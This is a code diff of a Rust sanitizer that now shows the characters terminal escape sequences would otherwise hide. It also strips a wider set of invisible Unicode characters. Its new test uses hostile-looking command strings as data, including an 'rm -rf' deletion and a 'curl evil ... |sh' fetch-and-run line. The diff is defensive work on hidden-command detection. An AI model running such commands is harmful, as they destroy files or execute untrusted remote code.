@@ -13,23 +13,24 @@ pub fn clean(text: &str) -> String {
             '\u{1b}' => match chars.peek() {
                 Some('[') => {
                     chars.next();
-                    skip_csi(&mut chars);
+                    show_csi(&mut chars, &mut out);
                 }
                 Some(']' | 'P' | 'X' | '^' | '_') => {
                     chars.next();
                     show_string(&mut chars, &mut out);
                 }
-                // Intermediates, then one final character.
-                Some(' '..='/') => {
-                    while chars.next_if(|c| matches!(c, ' '..='/')).is_some() {}
-                    chars.next_if(|c| !c.is_control());
+                _ => {
+                    let between = run(&mut chars, |c| matches!(c, ' '..='/'));
+                    let last = chars.next_if(|c| !c.is_control());
+                    let is_paint = match between.as_str() {
+                        "" => last.is_some_and(|c| c.is_ascii_alphanumeric() || c == '='),
+                        "(" | ")" => last.is_some_and(|c| c.is_ascii_uppercase() || c.is_ascii_digit()),
+                        _ => false,
+                    };
+                    show_unless(is_paint, between, last, &mut out);
                 }
-                Some(next) if !next.is_control() => {
-                    chars.next();
-                }
-                _ => {}
             },
-            '\u{9b}' => skip_csi(&mut chars),
+            '\u{9b}' => show_csi(&mut chars, &mut out),
             '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => show_string(&mut chars, &mut out),
             '\r' if chars.peek() == Some(&'\n') => {}
             '\r' | '\u{2028}' | '\u{2029}' | '\u{85}' => out.push('\n'),
@@ -48,10 +49,26 @@ pub fn one_line(text: &str) -> String {
 
 type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;
 
-/// Parameters and intermediates, then one final character.
-fn skip_csi(chars: &mut Chars<'_>) {
-    while chars.next_if(|c| matches!(c, ' '..='?')).is_some() {}
-    chars.next_if(|c| matches!(c, '@'..='~'));
+fn run(chars: &mut Chars<'_>, is_part: impl Fn(char) -> bool) -> String {
+    std::iter::from_fn(|| chars.next_if(|c| is_part(*c))).collect()
+}
+
+/// Parameters and intermediates, then one final character. Colours and movements vanish, because no word of a shell fits into them.
+fn show_csi(chars: &mut Chars<'_>, out: &mut String) {
+    let between = run(chars, |c| matches!(c, ' '..='?'));
+    let last = chars.next_if(|c| matches!(c, '@'..='~'));
+    let numbers = between.strip_prefix('?').unwrap_or(&between);
+    let is_paint = last.is_some_and(|c| c.is_ascii_alphabetic())
+        && !numbers.starts_with([';', ':'])
+        && numbers.bytes().all(|b| b.is_ascii_digit() || b";:".contains(&b));
+    show_unless(is_paint, between, last, out);
+}
+
+fn show_unless(is_paint: bool, between: String, last: Option<char>, out: &mut String) {
+    let swallowed: String = between.chars().chain(last).filter(|c| !is_invisible(*c)).collect();
+    if !is_paint && !swallowed.is_empty() {
+        out.extend(['‹'].into_iter().chain(swallowed.chars()).chain(['›']));
+    }
 }
 
 /// A string command goes on to BEL, ST or the end of the line.
@@ -74,8 +91,10 @@ fn show_string(chars: &mut Chars<'_>, out: &mut String) {
 /// Characters that reorder what is shown, or that carry text that nobody sees.
 pub(super) fn is_invisible(c: char) -> bool {
     matches!(c,
-        '\u{61c}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
-        | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
+        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
+        | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}'
+        | '\u{3164}' | '\u{fe00}'..='\u{fe0d}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}'
+        | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
 }
 
 /// Columns on a terminal; close enough for a table.
@@ -193,6 +212,19 @@ mod tests {
                     assert_eq!(clean(&text), text);
                 }
             }
+        }
+    }
+
+    #[test]
+    fn no_word_of_a_shell_vanishes_with_a_sequence() {
+        for (text, shown) in [
+            ("rm -rf x\u{1b}[ /* -v", "rm -rf x‹ /* -v›"),
+            ("curl evil \u{9b}|sh", "curl evil ‹|›sh"),
+            ("a\u{1b}|b", "a‹|›b"),
+            ("a\u{1b}[1;31mred\u{1b}[0m\u{1b}[?25l\u{1b}(B\u{1b}c\u{1b}[Kz", "aredz"),
+            ("x\u{3164}y\u{ad}z", "xyz"),
+        ] {
+            assert_eq!(clean(text), shown);
         }
     }
 
